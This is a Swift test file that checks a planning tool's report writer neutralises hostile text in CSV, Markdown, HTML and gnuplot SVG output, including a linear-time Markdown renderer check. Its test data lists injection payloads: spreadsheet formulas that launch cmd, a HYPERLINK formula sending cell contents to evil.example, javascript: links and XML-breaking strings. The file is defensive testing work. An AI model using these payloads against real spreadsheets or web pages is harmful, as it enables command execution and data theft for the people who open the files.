import Foundation
import PlanCore
import PlanSim
import PlanTestSupport
import Testing
@testable import PlanReport
#if canImport(FoundationXML)
import FoundationXML
#endif

/// One neutraliser per output format (issue 28): CSV cells never start a formula, no text
/// becomes a link or image in report.md or report.html, `|` never splits a table, gnuplot text is
/// valid XML in the SVG, control characters show visibly, and inline Markdown renders in linear
/// time with the same result as the former (quadratic) renderer.
struct NeutralOutputTests {
    /// Text an attacker would put in a scenario name, a language code or a stored row.
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB=1", "\r=1", "\u{FF1D}1+1", "[x](https://evil.example)", "![i](http://evil.example/i.png)", "[c](javascript:alert(1))",
        "<https://evil.example>", "see https://evil.example/x now", "www.evil.example", "mail a@evil.example", "//evil.example/x",
        "a\\|b", "x|y", "\\[x](y)", "[r]: https://evil.example", "`[x](y)` and ``[a](b)``", "\u{1B}[31mred\u{7}\u{0}nul",
    ]

    // MARK: CSV

    /// RFC 4180 rows, for checking cells as a spreadsheet reads them.
    static func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var scalars = text.unicodeScalars.makeIterator()
        var pending: Unicode.Scalar? = nil
        while let c = pending ?? scalars.next() {
            pending = nil
            if quoted {
                if c == "\"" {
                    if let next = scalars.next() {
                        if next == "\"" { cell.unicodeScalars.append("\"") } else { quoted = false; pending = next }
                    } else { quoted = false }
                } else { cell.unicodeScalars.append(c) }
            } else if c == "\"" && cell.isEmpty {
                quoted = true
            } else if c == "," {
                row.append(cell); cell = ""
            } else if c == "\n" {
                row.append(cell); rows.append(row); row = []; cell = ""
            } else { cell.unicodeScalars.append(c) }
        }
        if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
        return rows
    }

    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "\u{FF1D}", "\u{FF0B}", "\u{FF0D}", "\u{FF20}"]

    @Test(arguments: hostile) func csvCellsNeverStartAFormula(_ text: String) throws {
        let runs = [RunSummary(id: 1, kind: .simulate, startedAt: Date(timeIntervalSince1970: 0), scenarioName: text, seed: 1, trials: nil)]
        var record = SimulationRecord(result: try SnapshotTests().defaultResult().1)
        record.scenario = text
        record.strategies[0].name = text
        record.strategies[0].total.gpuHours = -1.5
        for csv in [RunOutput.listCSV(runs), ResultCSV.simulation(record: record, runID: 1)] {
            let rows = Self.parseCSV(csv)
            #expect(rows.count >= 2 && rows.allSatisfy { $0.count == rows[0].count }, "\(csv)")
            for cell in rows.dropFirst().flatMap({ $0 }) where Double(cell) == nil {
                #expect(!Self.formulaStarts.contains(cell.unicodeScalars.first ?? " "), "\(csv)")
            }
            // The text is all there, behind the quote.
            #expect(rows[1].contains { $0 == text || $0 == "'" + text })
        }
        // Numbers stay numbers (a negative figure is not a formula): the first strategy's total row.
        #expect(Self.parseCSV(ResultCSV.simulation(record: record, runID: 1))[3].contains("-1.5"))
    }

    @Test func csvNeutraliserFollowsTheOWASPRule() {
        #expect(ResultCSV.field("=1+1") == "'=1+1")
        #expect(ResultCSV.field("@SUM(A1)") == "'@SUM(A1)")
        #expect(ResultCSV.field("=a,b") == "\"'=a,b\"")
        #expect(ResultCSV.field("a=b") == "a=b" && ResultCSV.field("merge") == "merge" && ResultCSV.field("") == "")
    }

    // MARK: Markdown

    /// Backslashes immediately before `index`.
    static func backslashes(_ scalars: [Unicode.Scalar], before index: Int) -> Int {
        var count = 0
        while index - count - 1 >= 0 && scalars[index - count - 1] == "\\" { count += 1 }
        return count
    }

    /// Link, image and autolink syntax a Markdown reader would act on, outside code spans.
    static func liveMarkup(_ line: String) -> [String] {
        let scalars = Array(line.unicodeScalars)
        let inCode = ReportDocument.codeSpans(scalars)
        var found: [String] = []
        for (index, scalar) in scalars.enumerated() where !inCode[index] {
            let escaped = backslashes(scalars, before: index) % 2 == 1
            switch scalar {
            case "[" where !escaped, "]" where !escaped: found.append("\(scalar) at \(index)")
            case "@": found.append("@ at \(index)")
            case "<" where !escaped: found.append("< at \(index)")
            case ":" where !escaped && index + 2 < scalars.count && scalars[index + 1] == "/" && scalars[index + 2] == "/":
                found.append(":// at \(index)")
            case "." where !escaped && index >= 3 && String(String.UnicodeScalarView(scalars[(index - 3)..<index])).lowercased() == "www":
                found.append("www. at \(index)")
            default: break
            }
        }
        return found
    }

    /// The `|` a table reader may split a row at: outside code spans any `|` not preceded by an
    /// odd run of backslashes (the strictest reading); inside them, as cmark-gfm and markdown-it
    /// read it, any `|` not preceded by a backslash.
    static func columnBreaks(_ line: String) -> Int {
        let scalars = Array(line.unicodeScalars)
        let inCode = ReportDocument.codeSpans(scalars)
        return scalars.indices.filter { index in
            guard scalars[index] == "|" else { return false }
            let run = backslashes(scalars, before: index)
            return inCode[index] ? run == 0 : run % 2 == 0
        }.count
    }

    static func document(_ text: String) -> ReportDocument {
        ReportDocument(title: "Plan: \(text)", blocks: [
            .heading(level: 2, text: text),
            .paragraph("Scenario \(ReportDocument.inlineCode(text)) and **\(text)** and plain \(text)."),
            .bullets([text, "`\(text)`"]),
            .table(header: ["input", "value"], rows: [[text, "1"], ["`\(text)`", text]], numeric: [false, true]),
            .image(path: "plot.png", alt: text),
        ])
    }

    @Test(arguments: hostile) func markdownHasNoLinkImageOrColumnFromText(_ text: String) {
        let markdown = Self.document(text).markdown
        for line in markdown.components(separatedBy: "\n") {
            #expect(!line.unicodeScalars.contains { $0.properties.generalCategory == .control }, "\(line)")
            if line.hasPrefix("![") {
                // The report's own image: only its alt text may hold the user's text.
                #expect(line.hasSuffix("](plot.png)"))
                let alt = String(line.dropFirst(2).dropLast("](plot.png)".count))
                #expect(Self.liveMarkup(alt).isEmpty, "\(line)")
                continue
            }
            #expect(Self.liveMarkup(line).isEmpty, "\(line): \(Self.liveMarkup(line))")
            if line.hasPrefix("|") { #expect(Self.columnBreaks(line) == 3, "\(line)") }
        }
    }

    @Test func markdownEscapesShowTheSameText() {
        #expect(ReportDocument.markdownText("[a](b) | c\\") == "\\[a\\](b) \\| c\\\\")
        #expect(ReportDocument.markdownText("https://x.example www.x.example a@b") == "https\\://x.example www\\.x.example a\u{FF20}b")
        // Inside a code span the text is literal; only a table cell escapes its pipes there.
        #expect(ReportDocument.markdownText("`[a]|b`") == "`[a]|b`")
        #expect(ReportDocument.markdownText("`a|b`", inTable: true) == "`a\\|b`")
        #expect(ReportDocument.markdownText("bell\u{7} nul\u{0}") == "bell\\\\u{7} nul\\\\u{0}")
    }

    // MARK: HTML

    @Test(arguments: hostile) func htmlHasNoLinkAndShowsControlCharacters(_ text: String) {
        let html = Self.document(text).html
        #expect(!html.contains("<a ") && !html.contains("href"), "\(html)")
        #expect(html.components(separatedBy: "<img ").count == 2, "only the report's own image")
        for scalar in html.unicodeScalars where scalar.properties.generalCategory == .control {
            #expect(scalar == "\n", "control character U+\(String(scalar.value, radix: 16))")
        }
        if text.contains("\u{1B}") { #expect(html.contains("<title>Plan: \\e[31mred\\u{7}\\u{0}nul</title>")) }
    }

    @Test func inlineMarkdownRendersNoLinks() {
        #expect(InlineMarkdown.html("[x](https://e.example) ![i](//h/x)") == "[x](https://e.example) ![i](//h/x)")
        #expect(InlineMarkdown.html("**a** `b` *c*") == "<strong>a</strong> <code>b</code> <em>c</em>")
    }

    /// The renderer before it was made linear (links aside): the oracle for random lines.
    enum Quadratic {
        static func render(_ chars: ArraySlice<Character>) -> String {
            var out = ""
            var i = chars.startIndex
            while i < chars.endIndex {
                let c = chars[i]
                if c == "`" {
                    let run = runLength(chars, from: i)
                    if let close = closingRun(chars, from: i + run, length: run) {
                        out += "<code>" + String(chars[(i + run)..<close]).trimmingCharacters(in: .whitespaces) + "</code>"
                        i = close + run
                    } else {
                        out += String(repeating: "`", count: run)
                        i += run
                    }
                    continue
                }
                if c == "*", i + 1 < chars.endIndex, chars[i + 1] == "*" {
                    if let close = closing(chars, from: i + 2, marker: "**"), close > i + 2 {
                        out += "<strong>" + render(chars[(i + 2)..<close]) + "</strong>"
                        i = close + 2
                        continue
                    }
                    out += "**"
                    i += 2
                    continue
                }
                if c == "*", opens(chars, at: i), let close = closing(chars, from: i + 1, marker: "*") {
                    out += "<em>" + render(chars[(i + 1)..<close]) + "</em>"
                    i = close + 1
                    continue
                }
                out.append(c)
                i += 1
            }
            return out
        }

        static func runLength(_ chars: ArraySlice<Character>, from start: Int) -> Int {
            var end = start
            while end < chars.endIndex && chars[end] == "`" { end += 1 }
            return end - start
        }

        static func closingRun(_ chars: ArraySlice<Character>, from start: Int, length: Int) -> Int? {
            var i = start
            while i < chars.endIndex {
                if chars[i] == "`" {
                    let run = runLength(chars, from: i)
                    if run == length { return i }
                    i += run
                } else {
                    i += 1
                }
            }
            return nil
        }

        static func opens(_ chars: ArraySlice<Character>, at i: Int) -> Bool {
            guard i + 1 < chars.endIndex, !chars[i + 1].isWhitespace, chars[i + 1] != "*" else { return false }
            return i == chars.startIndex || chars[i - 1].isWhitespace || chars[i - 1] == "("
        }

        static func closing(_ chars: ArraySlice<Character>, from start: Int, marker: String) -> Int? {
            let mark = Array(marker)
            var i = start
            while i < chars.endIndex {
                if chars[i] == "`" {
                    let run = runLength(chars, from: i)
                    if let close = closingRun(chars, from: i + run, length: run) { i = close + run } else { i += run }
                    continue
                }
                if i + mark.count <= chars.endIndex, Array(chars[i..<(i + mark.count)]) == mark, i > start, !chars[i - 1].isWhitespace {
                    let after = i + mark.count
                    if marker == "*" {
                        let doubled = (after < chars.endIndex && chars[after] == "*") || chars[i - 1] == "*"
                        let bounded = after == chars.endIndex || chars[after].isWhitespace || chars[after].isPunctuation
                        if !doubled && bounded { return i }
                    } else {
                        return i
                    }
                }
                i += 1
            }
            return nil
        }
    }

    @Test func linearRendererMatchesTheFormerOneOnRandomLines() {
        var state: UInt64 = 28
        func below(_ n: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407  // a seeded LCG: replayable lines
            return Int((state >> 33) % UInt64(n))
        }
        let pieces = ["*", "**", "`", "``", " ", "a", "b", "(", ".", ",", "_", "***"]
        for _ in 0..<3000 {
            let line = (0..<(1 + below(24))).map { _ in pieces[below(pieces.count)] }.joined()
            let escaped = Array(InlineMarkdown.escape(line))
            #expect(InlineMarkdown.html(line) == Quadratic.render(escaped[...]), "\(line)")
        }
    }

    /// Lines of unmatched markers that made the former renderer quadratic (a 60 KB language code
    /// took minutes); each renders as its escaped text.
    @Test(arguments: ["*a ", "**x ", "`` ` ", "*(", "[", "` `` ``` "])
    func longLinesOfUnmatchedMarkersRender(_ pattern: String) {
        let line = String(repeating: pattern, count: 200_000 / pattern.count)
        let html = InlineMarkdown.html(line)
        #expect(!html.isEmpty && html.count <= line.count * 10)
    }

    // MARK: SVG

    static let xmlBreakers = ["a ]]> b", "&#xFFFE; and &#x1; and &#65;", String(String.UnicodeScalarView([0xFFFE, 0xFFFF, 0xFDD0, 0x10FFFF].compactMap(Unicode.Scalar.init))), "<![CDATA[ x ]]>", "&amp; & <x>"]

    @Test(arguments: xmlBreakers) func gnuplotTextIsValidXMLText(_ text: String) {
        let shown = GnuplotScript.text(text)
        #expect(!shown.contains("]]>") && !shown.contains("&#"))
        #expect(!shown.unicodeScalars.contains { $0.properties.isNoncharacterCodePoint })
    }

    #if canImport(FoundationXML)
    @Test(.enabled(if: Gnuplot.executable() != nil, "needs gnuplot on PATH"))
    func svgPlotsStayValidXML() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let title = Self.xmlBreakers.joined(separator: " ")
        let script = GnuplotScript.preamble(name: "xml", title: title)
            + GnuplotScript.outputs(name: "xml", plot: "plot x title \(GnuplotScript.quote(title))")
        try PlotWriter.write([("xml", script.joined(separator: "\n") + "\n")], to: folder)
        let svg = try Data(contentsOf: folder.appendingPathComponent("xml.svg"))
        let parser = XMLParser(data: svg)
        #expect(parser.parse(), "\(String(describing: parser.parserError))")
    }
    #endif
}
